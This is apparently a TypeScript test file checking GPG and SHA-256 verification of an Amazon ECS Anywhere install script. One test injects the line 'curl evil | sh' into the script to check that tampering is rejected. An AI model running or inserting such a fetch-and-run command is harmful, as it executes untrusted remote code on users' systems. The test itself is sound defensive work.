import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { run } from "../../../src/adapters/host/exec.ts";
import {
  AMAZON_ECS_KEY_FINGERPRINT,
  type GpgVerifyInput,
  verifySha256,
  verifyWithGpg,
} from "../../../src/components/install-script/verify.ts";
import { generateTestKey, type TestKey } from "./gpg-keys.ts";

const FIXTURE = new URL("../../fixtures/gpg/ecs-anywhere-install-fixture.sh", import.meta.url);

describe("verifyWithGpg", () => {
  let trusted: TestKey;
  let stranger: TestKey;
  let script: string;
  let signature: string;
  let tempParent: string;

  beforeAll(async () => {
    [trusted, stranger] = await Promise.all([generateTestKey("Trusted"), generateTestKey("Stranger")]);
    script = await readFile(FIXTURE, "utf8");
    signature = await trusted.sign(script);
  });
  afterAll(async () => {
    await Promise.all([trusted?.dispose(), stranger?.dispose()]);
  });
  beforeEach(async () => {
    tempParent = await mkdtemp(path.join(tmpdir(), "verify-test-"));
    return async () => {
      // Every verification removes its temporary GNUPGHOME, whatever the outcome.
      expect(await readdir(tempParent)).toEqual([]);
      await rm(tempParent, { recursive: true, force: true });
    };
  });

  const verify = (input: Partial<GpgVerifyInput>) =>
    verifyWithGpg({
      script,
      signature,
      publicKey: trusted.publicKey,
      expectedFingerprint: trusted.fingerprint,
      exec: run,
      tempParent,
      ...input,
    });

  it("accepts a script signed by the pinned key", async () => {
    expect(await verify({})).toEqual({ ok: true, fingerprint: trusted.fingerprint });
  });

  it("accepts a pinned fingerprint written in lower case with spaces", async () => {
    const spaced = trusted.fingerprint.toLowerCase().replace(/(.{4})/g, "$1 ");
    expect(await verify({ expectedFingerprint: spaced })).toMatchObject({ ok: true });
  });

  it("rejects a tampered script as a bad signature", async () => {
    const result = await verify({ script: script.replace("fixture", "fixture; curl evil | sh") });
    expect(result).toMatchObject({ ok: false, reason: "bad-signature" });
    expect(result.ok || result.message).toMatch(/Do not run the script/);
  });

  it("refuses a different key even when its own signature is valid", async () => {
    const result = await verify({ publicKey: stranger.publicKey, signature: await stranger.sign(script) });
    expect(result).toMatchObject({ ok: false, reason: "fingerprint-mismatch" });
    expect(result.ok || result.message).toContain(stranger.fingerprint);
  });

  it("refuses a key bundle that holds the pinned key plus another one", async () => {
    const result = await verify({ publicKey: `${trusted.publicKey}\n${stranger.publicKey}` });
    expect(result).toMatchObject({ ok: false, reason: "fingerprint-mismatch" });
  });

  it("rejects a signature made by another key than the pinned one", async () => {
    const result = await verify({ signature: await stranger.sign(script) });
    expect(result).toMatchObject({ ok: false, reason: "bad-signature" });
  });

  it("pins the Amazon ECS key by default", async () => {
    const result = await verify({ expectedFingerprint: undefined });
    expect(result).toMatchObject({ ok: false, reason: "fingerprint-mismatch" });
    expect(result.ok || result.message).toContain(AMAZON_ECS_KEY_FINGERPRINT);
  });

  it("reports a missing or empty signature as no-signature", async () => {
    expect(await verify({ signature: "" })).toMatchObject({ ok: false, reason: "no-signature" });
    expect(await verify({ signature: "not a signature\n" })).toMatchObject({
      ok: false,
      reason: "no-signature",
    });
  });

  it("reports gpg-missing when gpg cannot be found", async () => {
    const result = await verify({ gpgCommand: "/nonexistent/bin/gpg" });
    expect(result).toMatchObject({ ok: false, reason: "gpg-missing" });
    expect(result.ok || result.message).toMatch(/install/i);
  });
});

describe("verifySha256", () => {
  const content = "#!/bin/bash\necho hello\n";
  const digest = "4e7b1e1ea1e4c2f4e1ce4b6d0b3dd7d9b3d1b0b2c4e0f3fcd1f4a1e8b2d0a7e1";

  it("accepts content whose digest matches, also from a sha256sum line", async () => {
    const { createHash } = await import("node:crypto");
    const actual = createHash("sha256").update(content).digest("hex");
    expect(verifySha256(content, actual)).toEqual({ ok: true, fingerprint: `sha256:${actual}` });
    expect(verifySha256(content, `${actual.toUpperCase()}  ecs-anywhere-install-latest.sh\n`)).toMatchObject({
      ok: true,
    });
  });

  it("rejects content whose digest differs, naming both digests", () => {
    const result = verifySha256(content, digest);
    expect(result).toMatchObject({ ok: false, reason: "sha256-mismatch" });
    expect(result.ok || result.message).toContain(digest);
  });

  it("rejects an expected value that is not a SHA-256 digest", () => {
    expect(verifySha256(content, "abc")).toMatchObject({ ok: false, reason: "sha256-mismatch" });
  });
});

describe("verifyWithGpg with a key that signs through a subkey, like the Amazon ECS key", () => {
  it("accepts a signature made by the signing subkey when the PRIMARY fingerprint is pinned", async () => {
    const key = await generateTestKey("Subkey signer", { signingSubkey: true });
    try {
      const script = await readFile(FIXTURE, "utf8");
      const result = await verifyWithGpg({
        script,
        signature: await key.sign(script),
        publicKey: key.publicKey,
        expectedFingerprint: key.fingerprint,
        exec: run,
      });
      expect(result).toEqual({ ok: true, fingerprint: key.fingerprint });
      const tampered = await verifyWithGpg({
        script: `${script}\necho tampered\n`,
        signature: await key.sign(script),
        publicKey: key.publicKey,
        expectedFingerprint: key.fingerprint,
        exec: run,
      });
      expect(tampered).toMatchObject({ ok: false, reason: "bad-signature" });
    } finally {
      await key.dispose();
    }
  });
});
